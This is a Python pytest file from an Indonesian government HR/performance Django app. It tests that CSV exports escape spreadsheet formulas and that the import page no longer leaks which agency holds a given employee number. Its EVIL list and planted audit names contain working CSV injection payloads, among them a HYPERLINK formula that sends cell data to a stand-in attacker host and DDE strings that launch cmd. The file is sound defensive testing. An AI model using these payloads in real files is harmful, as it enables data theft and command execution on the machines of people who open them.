"""Formula injection in every CSV the product writes, and the import's "NIP of another instansi" oracle
(issue #15). Each test plants the attack and checks that it is now inert / says nothing."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django_scopes import scope

from kinerja.csv_aman import FORMULA_PREFIXES, csv_cell
from kinerja.documents import write_csv
from kinerja.models import Pegawai, User
from kinerja.services.audit import audit_log
from kinerja.services.impor import impor_template_csv
from kinerja.tenancy import PLATFORM_INSTANSI_SESSION_KEY
from tests.conftest import Org
from tests.kinerja.data.impor_util import csv_bytes, row, run_import

ROOT = Path(__file__).resolve().parents[2]

EVIL = [
    '=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_PREFIXES)


def test_csv_cell_neutralises_every_formula_prefix() -> None:
    for value in EVIL:
        assert csv_cell(value) == "'" + value
    assert csv_cell("Biasa saja") == "Biasa saja"
    assert csv_cell("a=b") == "a=b"  # only the first character matters
    assert csv_cell(-1) == -1  # numbers stay numbers
    assert csv_cell(None) == ""


def test_every_csv_writer_of_the_product_goes_through_the_one_escaping_function() -> None:
    offenders = []
    for app in ("kinerja", "skp", "evaluasi", "dialog"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csv_aman.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"CSV written without kinerja.csv_aman: {offenders}"


def _plant(org: Org) -> None:
    """Audit rows whose user-controlled parts (object name, actor name, before/after) are formulas."""
    user = org.admin.user
    user.nama = '=HYPERLINK("http://penyerang.example","Nama")'
    user.save(update_fields=["nama"])
    for value in EVIL:
        audit_log(actor=user, instansi=org.instansi, action="uji.formula", object_repr=value)
    audit_log(
        actor=user, instansi=org.instansi, action="uji.formula", object_repr="x", before=None, after=None
    )


def _assert_inert(rows: list[list[str]]) -> None:
    data = [r for r in rows[1:] if r and r[3] == "uji.formula"]
    assert len(data) == len(EVIL) + 1
    for r in data:
        assert all(_inert(cell) for cell in r), r
    reprs = {r[6] for r in data}
    assert {"'" + v for v in EVIL} <= reprs  # the text is kept, only made inert
    assert data[0][2] == "'" + '=HYPERLINK("http://penyerang.example","Nama")'


@pytest.mark.django_db
def test_audit_csv_page_writes_formulas_as_text(org_a: Org, client: Client) -> None:
    _plant(org_a)
    client.force_login(org_a.admin.user)
    resp = client.get("/audit/csv/?aksi=uji.formula")
    assert resp.status_code == 200
    body = b"".join(resp.streaming_content).decode()
    _assert_inert(list(csv.reader(io.StringIO(body, newline=""))))


@pytest.mark.django_db
def test_export_audit_command_writes_formulas_as_text(org_a: Org, tmp_path: Path) -> None:
    _plant(org_a)
    out = tmp_path / "audit.csv"
    call_command("export_audit", "--instansi", "A", "--output", str(out))
    _assert_inert(list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))))


def test_tabular_exports_and_manifests_write_formulas_as_text() -> None:
    # documents.write_csv: the /dokumen/ekspor/ CSVs and the MANIFEST.csv of the ZIP jobs
    rows = list(csv.reader(io.StringIO(write_csv(["kolom", "angka"], [[v, -1] for v in EVIL]).decode())))
    assert rows[0] == ["kolom", "angka"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL]
    assert all(r[1] == "-1" for r in rows[1:])  # a number is written as a number


def test_import_template_has_no_formula() -> None:
    rows = list(csv.reader(io.StringIO(impor_template_csv())))
    assert all(_inert(cell) for r in rows for cell in r)


# ------------------------------------------------------------------------------------ import oracle


def _upload(user: User, content: bytes, instansi_kode: str | None = None) -> str:
    client = Client()
    client.force_login(user)
    if instansi_kode:
        session = client.session
        session[PLATFORM_INSTANSI_SESSION_KEY] = instansi_kode
        session.save()
    resp = client.post(
        "/impor/",
        {"aksi": "unggah", "berkas": SimpleUploadedFile("p.csv", content), "uji_coba": "on"},
    )
    assert resp.status_code == 200
    return resp.content.decode()


@pytest.mark.django_db
def test_instansi_admin_is_not_told_that_a_nip_exists_elsewhere(org_a: Org, org_b: Org) -> None:
    # before: "NIP sudah terdaftar sebagai pegawai instansi lain." told A's admin that B employs the NIP
    html = _upload(org_a.admin.user, csv_bytes([row(nip=org_b.pegawai.nip, nama="Penyusup")]))
    assert "Tidak ada data yang diimpor." in html  # still refused
    assert "NIP ini tidak dapat digunakan." in html
    assert "instansi lain" not in html
    assert org_b.instansi.nama not in html
    with scope(instansi=org_b.instansi.pk):
        assert Pegawai.objects.get(pk=org_b.pegawai.pk).nama == org_b.pegawai.nama


@pytest.mark.django_db
def test_platform_admin_keeps_the_detail(org_a: Org, org_b: Org, platform_admin: User) -> None:
    html = _upload(platform_admin, csv_bytes([row(nip=org_b.pegawai.nip, nama="Penyusup")]), "A")
    assert "Tidak ada data yang diimpor." in html
    assert "NIP sudah terdaftar sebagai pegawai instansi lain." in html


@pytest.mark.django_db
def test_operator_at_the_command_line_keeps_the_detail(org_a: Org, org_b: Org, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes([row(nip=org_b.pegawai.nip, nama="Penyusup")]))
    code, _out, err = run_import("--instansi", "A", str(path))
    assert code == 1
    assert "NIP sudah terdaftar sebagai pegawai instansi lain." in err
